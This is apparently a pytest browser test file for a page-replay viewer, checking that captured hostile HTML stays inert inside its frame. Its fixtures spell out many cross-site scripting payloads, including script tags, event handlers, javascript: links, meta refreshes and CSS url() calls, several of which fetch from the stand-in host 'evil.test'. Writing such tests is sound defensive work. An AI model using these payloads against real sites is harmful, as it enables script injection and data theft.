"""A hostile capture is inert in the frame: nothing runs, is asked for, or leads away."""

from typing import Any

import pytest

from tests.ui.viewer import Viewer

pytestmark = pytest.mark.browser

OUT = "http://evil.test"
STEAL = f'top.stolen=1;fetch("{OUT}/run")'
XHTML = "#x:http%3A%2F%2Fwww.w3.org%2F1999%2Fxhtml"

HOSTILE = {
    "script": f"<script>{STEAL}</script>",
    "script with address": f"<script src='{OUT}/a.js'></script>",
    "svg script": f"<svg><script href='{OUT}/a.js'>{STEAL}</script></svg>",
    "script by qualified name": f"<{XHTML}:a:script>{STEAL}</{XHTML}:a:script>",
    "handler": f"<img src='data:x' onerror='{STEAL}'>",
    "handler in capitals": f"<body ONLOAD='{STEAL}'></body>",
    "svg handler": f"<svg onload='{STEAL}'><animate onbegin='{STEAL}' dur='1s'></animate></svg>",
    "meta refresh": f"<meta http-equiv='refresh' content='0;url={OUT}/refresh'>",
    "policy by meta": "<meta http-equiv='Content-Security-Policy' content='img-src *'>",
    "base": f"<base href='{OUT}/'><a href='x'>a</a>",
    "link": f"<link rel='stylesheet' href='{OUT}/a.css'><link rel='icon' href='{OUT}/i.png'>",
    "link ahead": f"<link rel='preconnect' href='{OUT}'><link rel='prefetch' href='{OUT}/p'>"
    f"<link rel='modulepreload' href='{OUT}/m.js'>",
    "iframe": f"<iframe src='{OUT}/frame'></iframe><iframe src='javascript:{STEAL}'></iframe>",
    "iframe srcdoc": f"<iframe srcdoc='&lt;script>{STEAL}&lt;/script>'></iframe>",
    "frameset": f"<frameset><frame src='{OUT}/frame'></frame></frameset>",
    "plug-ins": f"<object data='{OUT}/o'></object><embed src='{OUT}/e'>",
    "images": f"<img src='{OUT}/i.png'><img srcset='{OUT}/s.png 1x'>"
    f"<input type='image' src='{OUT}/n.png'><picture><source srcset='{OUT}/p.png'><img></picture>"
    f"<svg><image href='{OUT}/v.png'></image></svg>",
    "media": f"<video src='{OUT}/v' poster='{OUT}/p.png' autoplay></video>"
    f"<audio src='{OUT}/a' autoplay></audio>"
    f"<video><source src='{OUT}/s'><track src='{OUT}/t' default></video>",
    "styles": f"<style>@import '{OUT}/i.css'; @font-face {{ font-family: f; src: url({OUT}/f) }}"
    f" * {{ font-family: f; background: url({OUT}/b.png); cursor: url({OUT}/c), auto }}</style>"
    f"<p style='background: url({OUT}/inline.png)'>text</p>",
    "svg from outside": f"<svg><use href='{OUT}/u.svg#a'></use>"
    f"<filter><feImage href='{OUT}/f.png'></feImage></filter></svg>",
    "manifest": f"<link rel='manifest' href='{OUT}/m.json'>",
}


KEPT_SVG = f"""<svg xmlns='http://www.w3.org/2000/svg' onload='{STEAL}'><script>{STEAL}</script>
<symbol id='a'><image href='{OUT}/in.png'/><a href='javascript:{STEAL}'><rect style='fill:url({OUT}/f)'
 onclick='{STEAL}'/></a><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{OUT}/f'/>
</foreignObject><use href='{OUT}/u.svg#a'/><style>@import '{OUT}/s'</style></symbol></svg>"""
CALLS_OUT = f"url({OUT}/state)"
# What states, long texts and kept files may try: the body, its first node being 5, and the rest.
STATED: dict[str, tuple[str, dict[str, Any]]] = {
    "source": ("<img>", {"v": [5, {"src": [f"javascript:{STEAL}", 9]}]}),
    "source elsewhere": ("<img>", {"v": [5, {"src": [f"{OUT}/src.png", 9]}]}),
    "picture elsewhere": ("<img>", {"v": [5, {"picture": f"{OUT}/picture.png"}]}),
    "picture of a film": ("<video></video>", {"v": [5, {"picture": f"{OUT}/poster.png"}]}),
    "picture of a canvas": ("<canvas></canvas>", {"v": [5, {"picture": f"{OUT}/canvas.png"}]}),
    "animation": (
        "<p>p</p>",
        {"v": [5, {"animations": [{"time": 1, "timing": {"duration": 9000}, "frames": [
            {"backgroundImage": CALLS_OUT}, {"backgroundImage": CALLS_OUT, "cursor": CALLS_OUT},
        ]}]}]},
    ),
    "sheet": ("<style></style>", {"v": [5, {"sheet": f"@import '{OUT}/i'; * {{ mask: {CALLS_OUT} }}"}]}),
    "escaped": ("<style></style>", {"v": [5, {"sheet": f"* {{ background: u\\72l({OUT}/escaped) }}"}]}),
    "adopted": ("<p>p</p>", {"v": [0, {"adopted": [f"* {{ background: {CALLS_OUT} }}"]}]}),
    "text of a style": ("<style><!--0--></style>", {"x": [6, f"* {{ background: {CALLS_OUT} }}"]}),
    "text of a script": ("<script><!--0--></script>", {"x": [6, STEAL]}),
    "states": ("<x-a></x-a>", {"v": [5, {"states": ["'><script>"], "defined": False}]}),
    "kept file": ("<svg><use href='/k.svg#a'></use></svg><img src='/k.svg'>", {}),
    "kept object": ("<object data='/k.svg'></object><embed src='/k.svg'>", {}),
    "base": ("<img src='x.png'>", {"base": f"{OUT}/"}),
}  # fmt: skip

# As text: markup only once something writes it out carelessly.
REFRESH = f"&lt;meta http-equiv=refresh content=0;url={OUT}/r>&lt;img src=x onerror=top.stolen=1>"
PAINTED_TWICE = "new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))"
CLICK = "document.querySelector('#way').dispatchEvent(new MouseEvent('click', {cancelable: true}))"
NESTED = {
    "script": f"<script>{STEAL}</script>",
    "handler": f"<img src='data:x' onerror='{STEAL}'>",
    "meta refresh": f"<meta http-equiv='refresh' content='0;url={OUT}/refresh'>",
    "style that ends itself": f"<style>&lt;/style>{REFRESH}</style>",
    "style where it is no style": f"<svg><#h:style>{REFRESH}</#h:style></svg>",
    "raw text": f"<xmp>&lt;/xmp>{REFRESH}</xmp><noembed>&lt;/noembed>{REFRESH}</noembed>",
    "deeper": f"<iframe src='{OUT}/f'><#document><html><script>{STEAL}</script></html></#document>"
    "</iframe>",
}


def _show(viewer: Viewer, body: str, **more: Any) -> None:
    html = f"<!DOCTYPE html><html><head></head><body>{body}<p id='last'>last</p></body></html>"
    # The count is what the frame itself finds: these captures are about something else.
    refused = viewer.load(html, 0)
    count = int(refused["message"].split(" ")[0])
    assert viewer.load(html, count, url="http://s.test/", **more) == {
        "did": "loaded",
        "w": 800,
        "h": 600,
    }
    viewer.frame.wait_for_selector("#last")
    # Whatever would be fetched or run is under way by the time two frames have been painted.
    viewer.frame.evaluate(PAINTED_TWICE)


def _assert_inert(viewer: Viewer) -> None:
    assert viewer.asked == []
    assert viewer.page.evaluate("window.stolen") is None
    assert viewer.frame.url.endswith("/ui/frame.html")
    acting = "script, base, link, [http-equiv], [onerror], [onload]"
    assert viewer.frame.query_selector(acting) is None


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_runs_and_nothing_is_asked_for(name: str, viewer: Viewer) -> None:
    _show(viewer, HOSTILE[name])
    _assert_inert(viewer)


@pytest.mark.parametrize("name", STATED)
def test_nothing_does_by_what_goes_beside_the_html(name: str, viewer: Viewer) -> None:
    viewer.keep("http://s.test/k.svg", KEPT_SVG.encode(), "image/svg+xml")
    body, more = STATED[name]
    _show(viewer, body, **more)
    viewer.frame.evaluate(PAINTED_TWICE)
    _assert_inert(viewer)


@pytest.mark.parametrize("name", NESTED)
def test_nothing_does_in_a_captured_frame_either(name: str, viewer: Viewer) -> None:
    inside = f"<html>{NESTED[name]}<i id='inner'></i></html>"
    _show(viewer, f"<iframe><#document>{inside}</#document></iframe>")
    viewer.page.wait_for_function("frames[0].length === 1")
    inner = viewer.frame.child_frames[0]
    inner.wait_for_selector("#inner", state="attached")
    _assert_inert(viewer)
    assert inner.url.startswith("blob:")
    assert inner.query_selector("script, [http-equiv], [onerror]") is None


@pytest.mark.parametrize(
    "body",
    [
        f"<a id='way' href='{OUT}/a' ping='{OUT}/ping'>go</a>",
        f"<a id='way' href='{OUT}/a' target='_top'>go</a>",
        f"<a id='way' href='{OUT}/a' target='_blank'>go</a>",
        f"<form action='{OUT}/form'><button id='way'>go</button></form>",
        f"<form><button id='way' formaction='{OUT}/form'>go</button></form>",
        f"<svg><a href='{OUT}/svg'><rect id='way' width='9' height='9'></rect></a></svg>",
    ],
)
def test_no_click_leads_away(body: str, viewer: Viewer) -> None:
    _show(viewer, body)
    viewer.frame.click("#way", force=True)
    viewer.frame.evaluate(CLICK)
    viewer.frame.evaluate(PAINTED_TWICE)
    _assert_inert(viewer)
    assert len(viewer.page.context.pages) == 1


def test_names_in_a_form_do_not_stand_in_for_what_the_frame_calls(viewer: Viewer) -> None:
    names = ["insertBefore", "removeChild", "parentNode", "setAttributeNS", "firstChild"]
    fields = "".join(f"<input name='{name}'>" for name in names)
    images = "".join(
        f"<img name='{name}'>" for name in ("createElementNS", "open", "implementation")
    )
    _show(viewer, f"<form id='form'>{fields}</form>{images}")
    form = 5  # doctype, html, head, body, form
    count = form + len(names) + 3 + 2
    viewer.apply(count, i=[form, 0, "<b>in</b>"], a=[form, "class", "changed"], r=[form + 1])
    viewer.frame.wait_for_selector("form.changed > b")
    assert viewer.frame.locator("form > input").count() == len(names) - 1


def test_only_the_player_is_obeyed(viewer: Viewer) -> None:
    _show(viewer, "<p>as it was</p>")
    before = viewer.frame.content()
    record = {"k": "snapshot", "n": 1, "w": 1, "h": 1, "html": "<p></p>", "c": 1}
    viewer.frame.evaluate("record => window.postMessage({do: 'load', record}, '*')", record)
    viewer.frame.evaluate(PAINTED_TWICE)
    assert viewer.frame.content() == before


def test_a_request_would_be_noticed(viewer: Viewer) -> None:
    viewer.page.evaluate(f"fetch('{OUT}/seen').catch(() => null)")
    assert viewer.asked == [f"{OUT}/seen"]
